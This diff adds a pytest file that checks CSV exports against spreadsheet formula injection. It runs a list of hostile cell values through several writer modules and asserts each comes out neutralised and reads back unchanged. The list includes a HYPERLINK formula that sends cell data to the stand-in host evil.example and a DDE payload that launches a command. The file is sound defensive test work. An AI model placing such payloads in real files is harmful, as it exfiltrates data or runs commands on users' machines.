@@ -1,0 +1,109 @@
+"""No cell of a file that we give is a formula in a spreadsheet, whatever customers and companies have written."""
+
+import csv
+import io
+import re
+from collections.abc import Callable
+from datetime import UTC, datetime
+from types import SimpleNamespace
+from typing import Any
+
+import msgspec
+import pytest
+from support.source_code import ROOT
+
+from services.dispatcher.imports import faults_file
+from services.dispatcher.imports.remedies import encode_remedy
+from services.dispatcher.imports.tables import OWN_COLUMNS
+from services.dispatcher.moving_in.exports import _Lines
+from services.dispatcher.suppressions.files import csv_of
+from shared.values.csv_cells import plain_cell
+from shared.values.messages import message
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\n=1+1",
+    "\r=1+1",
+    "\r\n=cmd|' /C calc'!A0",
+    '";=1+1;"',
+    '",=1+1',
+    "'=1+1",
+    "\uff1d1+1",
+    "\uff20SUM(1)",
+    "a\n=1+1",
+    'plain, with "quotes"; and\ta tab',
+)
+BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+Written = Callable[[list[str]], tuple[str, str]]
+"""Writes a file of these texts; returns it with its separator."""
+
+
+def of_suppressions(texts: list[str]) -> tuple[str, str]:
+    now = datetime(2026, 11, 30, tzinfo=UTC)
+    rows: list[Any] = [
+        SimpleNamespace(kind="customer", key=text, reason="listed", created_at=now) for text in texts
+    ]
+    return csv_of(rows), ","
+
+
+def of_faults(separator: str) -> Written:
+    """The names of columns, cells, cells behind the last column, the column at fault, a remedy that quotes."""
+
+    def write(texts: list[str]) -> tuple[str, str]:
+        row: Any = SimpleNamespace(
+            row=2,
+            cells=msgspec.json.encode([*texts, *texts]),
+            column_name=texts[0],
+            remedy=encode_remedy(message("%(text)s is no time.", text=texts[0])),
+        )
+        lines = [faults_file.names_line(texts), faults_file._line(texts, row)]
+        return faults_file._lines(separator, lines), separator
+
+    return write
+
+
+def of_moving_in(texts: list[str]) -> tuple[str, str]:
+    file = io.BytesIO()
+    lines = _Lines(file)
+    lines.write(*texts)
+    lines.end()
+    return file.read().decode(), ","
+
+
+FILES: dict[str, list[Written]] = {
+    "services/dispatcher/suppressions/files.py": [of_suppressions],
+    "services/dispatcher/imports/faults_file.py": [of_faults(";"), of_faults(","), of_faults("\t")],
+    "services/dispatcher/moving_in/exports.py": [of_moving_in],
+}
+"""Each module that writes such a file."""
+WRITES = re.compile(r"\bcsv\.(writer|DictWriter)\(|media_type=\"text/csv")
+
+
+@pytest.mark.parametrize("module", FILES)
+def test_b34_no_cell_begins_like_a_formula_and_each_is_read_as_it_was(module: str) -> None:
+    for write in FILES[module]:
+        text, separator = write(list(HOSTILE))
+        cells = [
+            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row
+        ]
+        assert [cell for cell in cells if cell.startswith(BEGINNINGS)] == []
+        plain = [plain_cell(cell) for cell in cells]
+        assert [each for each in HOSTILE if each not in plain] == []
+        for line in text.splitlines():  # a spreadsheet that takes no quotes for what they are
+            assert not line.startswith("=HYPERLINK")
+
+
+def test_b34_every_module_that_writes_such_a_file_is_tried_above() -> None:
+    writing = {
+        str(path.relative_to(ROOT))
+        for folder in ("services", "shared", "deploy")
+        for path in (ROOT / folder).rglob("*.py")
+        if WRITES.search(path.read_text())
+    }
+    assert writing == set(FILES)
+    assert set(OWN_COLUMNS).isdisjoint(HOSTILE)
